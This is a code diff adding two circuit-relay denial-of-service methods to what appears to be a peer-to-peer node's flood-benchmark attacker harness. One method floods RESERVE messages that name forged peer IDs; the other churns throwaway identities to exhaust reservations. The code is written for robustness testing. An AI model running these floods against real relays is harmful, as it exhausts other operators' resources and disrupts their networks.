@@ -10,7 +10,11 @@ bytes the victim actually accepted, so a flood benchmark can say what got throug
         report = await attacker.stream_flood(victim_id, protocol, streams=200)
         report = await attacker.slow_reader(victim_id, TENSOR, request, streams=4, rate=40_000)
         report = await attacker.connection_flood(victim_addr, identities=50)
+        report = await attacker.relay_reservation_flood(victim_id, reservations=80)
+        report = await attacker.relay_reservation_churn(victim_addr, identities=80)
     control_junk(control_socket)   # the owner's own shell gone wrong (local only)
+
+Announcement floods and forged or future-dated stamps go through gossip: gossip_attacks.py.
 
 No attack here depends on a bug we know of: they are the inputs any public node receives.
 """
@@ -27,6 +31,11 @@ import trio
 from libp2p.abc import IHost
 from libp2p.peer.id import ID
 from libp2p.peer.peerinfo import PeerInfo, info_from_p2p_addr
+from libp2p.relay.circuit_v2.pb.circuit_pb2 import HopMessage
+from libp2p.relay.circuit_v2.pb.circuit_pb2 import PeerId as CircuitPeerId
+from libp2p.relay.circuit_v2.protocol import PROTOCOL_ID as HOP
+from libp2p.relay.circuit_v2.protocol_buffer import StatusCode
+from libp2p.relay.circuit_v2.utils import read_delimited_msg, write_delimited_msg
 from multiaddr import Multiaddr
 from peertrain.node.net.host import build_host, connect
 from peertrain.node.net.identity import Identity
@@ -44,6 +53,7 @@ class AttackReport:
     refused: int = 0  # streams or connections the victim refused or reset
     errors: dict[str, int] = field(default_factory=dict)
     held: list[float] = field(default_factory=list)  # seconds each slow stream was served
+    granted: int = 0  # what the victim gave (relay reservations)
 
     def failed(self, exc: BaseException) -> None:
         self.refused += 1
@@ -62,16 +72,18 @@ def garbage_payloads(rng: random.Random) -> list[bytes]:
 
 
 class Attacker:
-    def __init__(self, host: IHost, rng: random.Random) -> None:
+    def __init__(self, host: IHost, rng: random.Random, identity: Identity) -> None:
         self.host = host
         self.rng = rng
+        self.identity = identity
 
     @classmethod
     @contextlib.asynccontextmanager
     async def open(cls, *, seed: int = 0) -> AsyncIterator[Attacker]:
-        host = build_host(Identity.generate())
+        identity = Identity.generate()
+        host = build_host(identity)
         async with host.run([]):
-            yield cls(host, random.Random(seed))
+            yield cls(host, random.Random(seed), identity)
 
     async def connect(self, addr: str) -> ID:
         info = info_from_p2p_addr(Multiaddr(addr))
@@ -155,6 +167,55 @@ class Attacker:
                 for _ in range(identities):
                     nursery.start_soon(self._sybil, report, info)
         return report
+
+    async def relay_reservation_flood(
+        self, victim: ID, *, reservations: int = 80, seconds: float = 10.0
+    ) -> AttackReport:
+        """RESERVE messages on one hop stream, each naming a fresh peer ID as the one to hold
+        the reservation: upstream grants whatever peer the message names."""
+        report = AttackReport("relay reservation flood")
+        with trio.move_on_after(seconds):
+            try:
+                stream = await self.host.new_stream(victim, [HOP])
+                for _ in range(reservations):
+                    forged = Identity.generate().peer_id.to_bytes()
+                    await self._reserve(report, stream, HopMessage(type=HopMessage.RESERVE,
+                                        peer=CircuitPeerId(id=forged)))  # fmt: skip
+                await stream.reset()
+            except Exception as exc:  # noqa: BLE001 - the victim cut the stream: good
+                report.failed(exc)
+        return report
+
+    async def relay_reservation_churn(
+        self, addr: str, *, identities: int = 80, seconds: float = 20.0
+    ) -> AttackReport:
+        """Fresh identities that each reserve for themselves and leave at once: upstream keeps
+        a reservation for its whole hour-long TTL after its holder has gone."""
+        report = AttackReport("relay reservation churn")
+        info = info_from_p2p_addr(Multiaddr(addr))
+        with trio.move_on_after(seconds):
+            for _ in range(identities):
+                host = build_host(Identity.generate())
+                try:
+                    async with host.run([]):
+                        await connect(host, info)
+                        stream = await host.new_stream(info.peer_id, [HOP])
+                        await self._reserve(report, stream, HopMessage(type=HopMessage.RESERVE))
+                        await host.disconnect(info.peer_id)
+                except Exception as exc:  # noqa: BLE001 - refused: the next identity tries
+                    report.failed(exc)
+        return report
+
+    @staticmethod
+    async def _reserve(report: AttackReport, stream, message: HopMessage) -> None:
+        report.attempts += 1
+        await write_delimited_msg(stream, message)
+        report.bytes_delivered += message.ByteSize()
+        answer = await read_delimited_msg(stream, HopMessage)
+        if answer.status == StatusCode.OK:
+            report.granted += 1
+        else:
+            report.refused += 1
 
     # -- pieces ---------------------------------------------------------------------------------
 
